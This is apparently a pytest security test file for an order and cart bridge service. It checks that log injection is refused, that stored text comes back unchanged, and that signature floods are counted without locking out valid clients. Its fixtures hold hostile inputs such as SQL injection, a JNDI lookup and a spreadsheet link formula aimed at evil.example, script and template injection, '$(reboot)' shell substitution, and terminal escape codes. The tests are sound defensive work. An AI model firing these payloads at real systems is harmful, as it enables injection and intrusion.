"""Texts that another program would run, lines that another reader would see, and floods."""

import json
from dataclasses import replace

import pytest

from tests.hosts.hosts import ASGIHost, WSGIHost, build
from tests.rig import ADDRESS, CUSTOMER
from tests.security.attacks import Attack, Sent, Table
from tests.security.levels import BARE, LEVELS, Level
from tests.security.playing import rows
from tests.security.stage import CART, CLIENT, Stage

BARRED = "403 ip_not_allowed"
FAILED = "401 authentication_failed"
MALFORMED = "401 malformed_auth_header"
NOWHERE = "404 not_found"
TEXTS = {
    "SQL": "Robert'); DROP TABLE ofb_orders;--",
    "SQL, doubled": "'' OR ''1''=''1",
    "a comment in SQL": "/* */ x -- x # x",
    "a wildcard": "100% _ * ?",
    "percent formats": "%s %d %n %(name)s %%",
    "braces": "{0.__class__.__mro__} {} {{}} {cart_id}",
    "a look-up": "${jndi:ldap://evil.example/a}",
    "a template": "{{ 7*7 }} {% debug %} <%= 7 %> #{7}",
    "a script": "<script>alert('x')</script>&amp;",
    "a formula": '=HYPERLINK("https://evil.example")',
    "a shell": "$(reboot) `reboot` ; reboot & | >",
    "line ends": "one\r\ntwo\u2028three\u0085four",
    "a terminal": "\x1b[2J\x1b]0;owned\x07",
    "right to left": "\u202eevil\u202c \u2066x\u2069",
    "a backslash": "C:\\temp\\n \\u0041",
    "combining": "Zoe\u0301 \ufb01 \u212b",
    "emoji": "👩\u200d👩\u200d👧 𝔘",
}


def from_here(name: str, peer: str) -> Attack:
    return Attack(name, BARRED, by="office", peer=peer)


def dressed(name: str, value: str, **headers: str) -> Attack:
    """Send headers that the bridge does not read, with a wrong signature."""
    sent = {"User-Agent": value, "Referer": value, "Cookie": value, "X-Request-Id": value}
    return Attack(name, FAILED, secret="ofs_" + "x" * 43, headers=sent | headers)


TABLE: Table = {
    "a line that would be written into a log": [
        from_here("a peer with line ends", "203.0.113.9\r\nforged: 200"),
        from_here("a peer with a terminal's codes", "\x1b[2J203.0.113.9"),
        from_here("a peer with a line separator", "203.0.113.9\u2028forged"),
        from_here("a peer that turns the direction", "\u202e203.0.113.9"),
        from_here("a zone with line ends", "fe80::1%eth0\r\nforged"),
        from_here("a very long peer", "x" * 10_000),
        dressed("line ends in a user agent", "x\r\n{} forged"),
        dressed("a terminal's codes in a user agent", "\x1b[31mforged"),
        dressed("a line separator in a user agent", "x\u2028forged"),
        dressed("a look-up in a user agent", "${jndi:ldap://evil.example/a}"),
        Attack("line ends in a client id", MALFORMED, headers={"X-Client-Id": "ofc_\r\nforged"}),
        Attack("line ends in a signature", MALFORMED, headers={"X-Signature": "v1=\r\nforged"}),
        Attack("line ends in a path", NOWHERE, path="/ofc_%0d%0aforged/cart.create"),
        Attack("a terminal's codes in a path", NOWHERE, path=f"/{CLIENT}/%1b%5b31mforged"),
        Attack("a line separator in a path", NOWHERE, path=f"/{CLIENT}/%e2%80%a8forged"),
    ],
}


@pytest.mark.parametrize(("attack", "level"), rows(TABLE))
def test_nobody_writes_into_the_log(player, attack, level):
    """Each line of the log is one line of printable ASCII, and says nothing of what was sent."""
    player.play(attack, level)
    for record in player.caplog.records:
        if record.name == "orderflow_bridge.requests":
            decision = json.loads(record.getMessage())
            assert decision["verdict"] == "refused"
            assert "forged" not in json.dumps(decision | {"address": ""})


@pytest.mark.parametrize("level", LEVELS, ids=lambda level: level.name)
def test_a_text_comes_back_as_it_was_sent(player, level: Level):
    """In names, notes, addresses and metadata; nobody reads it on the way, and no log has it."""

    def send(stage: Stage, attack: Attack) -> dict:
        answer = level.send(stage.shop.bridge, attack.sent(stage))
        assert answer.status == 200, answer.body
        return json.loads(answer.body)

    getting = Attack("", "200", action="cart.get", body={"cart_id": CART})
    with player.stage(level, getting) as stage:
        for number, (name, text) in enumerate(TEXTS.items()):
            fields = {
                "note": text,
                "customer": CUSTOMER | {"name": text},
                "shipping_address": ADDRESS | {"line1": text},
                "metadata": {"a": text, text[:40]: 1},
            }
            body = {"cart_id": CART} | fields
            stored = send(
                stage, Attack("", "200", action="cart.update", body=body, key=f"k{number}")
            )
            for cart in (stored, send(stage, getting)):
                assert {field: cart[field] for field in fields} == fields, name
    assert not [text for text in TEXTS.values() if text in player.caplog.text]


class Kept:
    """One host for many requests; the core needs none."""

    def __init__(self, level: Level, stage: Stage) -> None:
        self._level, self._bridge = level, stage.shop.bridge
        self._host: WSGIHost | ASGIHost | None = None
        if level.family != "core":
            self._host = build(level.name, self._bridge)

    def send(self, sent: Sent) -> int:
        if self._host is None:
            return self._level.send(self._bridge, sent).status
        url = "/bridge" + sent.path
        return self._host.send(sent.method, url, sent.headers, sent.body, peer=sent.peer).status


@pytest.mark.parametrize("level", BARE, ids=lambda level: level.name)
def test_a_flood_is_refused_and_counted_and_shuts_nobody_out(player, level: Level):
    """A thousand bad signatures from one address: 401 each, nothing written, honest ones pass."""
    good = Attack("", "200")
    bad = replace(good, secret="ofs_" + "x" * 43)
    with player.stage(level, good) as stage:
        before, flood = stage.contents(), bad.sent(stage)
        host = Kept(level, stage)
        assert {host.send(flood) for _ in range(1_000)} == {401}
        assert stage.contents() == before
        seen = stage.shop.bridge.refusals()
        assert seen == {("authentication_failed", "203.0.113.9"): 1_000}
        assert host.send(good.sent(stage)) == 200
